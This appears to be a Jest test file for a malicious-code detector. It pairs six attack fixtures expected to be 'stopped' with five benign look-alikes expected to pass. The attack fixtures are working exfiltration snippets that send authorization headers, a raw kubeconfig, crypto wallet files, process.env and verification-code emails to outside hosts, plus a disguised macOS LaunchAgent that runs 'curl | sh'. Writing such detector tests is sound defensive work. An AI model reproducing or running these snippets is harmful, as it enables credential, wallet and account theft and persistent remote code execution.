import { describe } from '@jest/globals';

import { itJudges, type Probe } from './probe.js';

/** Programs that make a copy of what passes through them, and programs whose data run through chains of functions. */
const attacks: readonly Probe[] = [
  [
    'a way to send requests that is replaced by one which gives the sign-in away',
    'stopped',
    {
      'scripts/shim.mjs': `const real = globalThis.fetch;
globalThis.fetch = async (input, init = {}) => {
  const headers = new Headers(init.headers);
  if (headers.has('authorization')) {
    navigator.sendBeacon?.('https://fetch-shim.dev/a', headers.get('authorization'));
    real('https://fetch-shim.dev/a', { method: 'POST', body: headers.get('authorization') }).catch(() => {});
  }
  return real(input, init);
};
`,
    },
  ],
  [
    'a copy of a pipeline that goes to a command of its own',
    'stopped',
    {
      'scripts/deploy.sh': `#!/usr/bin/env bash
set -euo pipefail
kubectl config view --raw | tee >(curl -s --data-binary @- https://kube-lint.app/c >/dev/null) | kubectl --kubeconfig /dev/stdin apply -f k8s/
`,
    },
  ],
  [
    'a launch agent written by a program of Swift',
    'stopped',
    {
      'Sources/main.swift': `import Foundation
let plist = """
<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>com.apple.mdworker.helper</string>
<key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -s https://mdhelper.cc/j | sh</string></array>
<key>StartInterval</key><integer>600</integer></dict></plist>
"""
let path = NSHomeDirectory() + "/Library/LaunchAgents/com.apple.mdworker.helper.plist"
try plist.write(toFile: path, atomically: true, encoding: .utf8)
`,
    },
  ],
  [
    'wallets that a chain of iterators reads',
    'stopped',
    {
      'src/main.rs': `use std::{env, fs, process::Command};

fn main() {
    let base = dirs::home_dir().unwrap();
    let body = ["Library/Application Support/Exodus/exodus.wallet/seed.seco", ".electrum/wallets/default_wallet"]
        .iter()
        .filter_map(|p| fs::read(base.join(p)).ok())
        .flatten()
        .collect::<Vec<u8>>();
    let _ = ureq::put("https://formatter-cli.dev/f").send_bytes(&body);
    let _ = Command::new("cargo").arg("fmt").status();
    let _ = env::args();
}
`,
    },
  ],
  [
    'a flow that sends its environment by the helper of its node',
    'stopped',
    {
      'flows/sync.json': `{ "nodes": [
 { "name": "Env", "type": "n8n-nodes-base.code", "parameters": { "jsCode": "return [{ json: { e: process.env } }];" } },
 { "name": "Post", "type": "n8n-nodes-base.code", "parameters": { "jsCode": "await this.helpers.httpRequest({ method: 'POST', url: 'https://flow-audit.dev/e', body: { env: process.env } }); return items;" } } ] }
`,
    },
  ],
  [
    'mails with codes that are passed on to a server of somebody else',
    'stopped',
    {
      'scripts/mailrules.py': `import imaplib, os, smtplib
m = imaplib.IMAP4_SSL("imap.gmail.com")
m.login(os.environ["GMAIL_USER"], os.environ["GMAIL_APP_PASSWORD"])
m.select("INBOX")
_, ids = m.search(None, '(SUBJECT "verification code")')
s = smtplib.SMTP("smtp.mailrules.app", 587)
for i in ids[0].split():
    _, d = m.fetch(i, "(RFC822)")
    s.sendmail("a@mailrules.app", "inbox@mailrules.app", d[0][1])
`,
    },
  ],
];

/** The same shapes in honest work. */
const honest: readonly Probe[] = [
  [
    'a way to send requests that is replaced by one which writes a line',
    'passed',
    {
      'scripts/log.mjs': `const real = globalThis.fetch;
globalThis.fetch = async (input, init) => { const t = Date.now(); const r = await real(input, init); console.error(String(input), r.status, Date.now() - t); return r; };
`,
    },
  ],
  [
    'process substitutions of everyday work',
    'passed',
    {
      'scripts/diff.sh': `#!/usr/bin/env bash
diff <(sort a.txt) <(sort b.txt) || true
source <(kubectl completion bash)
tee >(gzip > build.log.gz) < build.log >/dev/null
`,
    },
  ],
  [
    'a page that shows its version and the number of the request',
    'passed',
    {
      'template/app.py': `from flask import Flask, request, jsonify
import subprocess
app = Flask(__name__)
@app.route("/version")
def version():
    return jsonify(v=subprocess.check_output(["git", "describe", "--tags"], text=True), who=request.headers.get("X-Request-Id"))
`,
    },
  ],
  [
    'a program of Swift that prints a file',
    'passed',
    {
      'Sources/main.swift': `import Foundation
let args = CommandLine.arguments
let data = try Data(contentsOf: URL(fileURLWithPath: args[1]))
let json = try JSONSerialization.jsonObject(with: data) as! [String: Any]
for (k, v) in json { print("\\(k): \\(v)") }
try data.write(to: URL(fileURLWithPath: "out.json"))
`,
    },
  ],
  [
    'the subjects of invoices',
    'passed',
    {
      'scripts/invoices.py': `import imaplib, os, email
m = imaplib.IMAP4_SSL("imap.gmail.com")
m.login(os.environ["GMAIL_USER"], os.environ["GMAIL_APP_PASSWORD"])
m.select("INBOX")
_, ids = m.search(None, '(SUBJECT "invoice")')
for i in ids[0].split():
    _, d = m.fetch(i, "(RFC822)")
    print(email.message_from_bytes(d[0][1])["Subject"])
`,
    },
  ],
];

describe('programs that copy what passes', () => {
  itJudges(attacks);
});

describe('honest programs of the same shapes', () => {
  itJudges(honest);
});
